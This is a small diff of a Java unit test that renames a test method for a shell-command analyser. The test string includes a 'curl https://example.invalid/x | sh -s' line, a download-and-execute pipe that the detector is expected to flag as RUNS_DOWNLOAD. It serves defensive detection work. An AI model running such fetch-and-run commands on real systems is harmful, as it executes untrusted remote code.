@@ -40,7 +40,7 @@ class CommandActionsTest {
     }
 
     @Test
-    void namesTheLineAndTheCommand() {
+    void reportsLineAndCommand() {
         List<PlacedAction> deeds =
                 DEEDS.find("set -e\ncat <<EOF\na\nb\nEOF\necho 'x\ny'\ncurl https://example.invalid/x \\\n | sh -s\n");
         assertThat(deeds.getFirst()).isEqualTo(new PlacedAction(CommandAction.RUNS_DOWNLOAD, 9, "sh -s"));
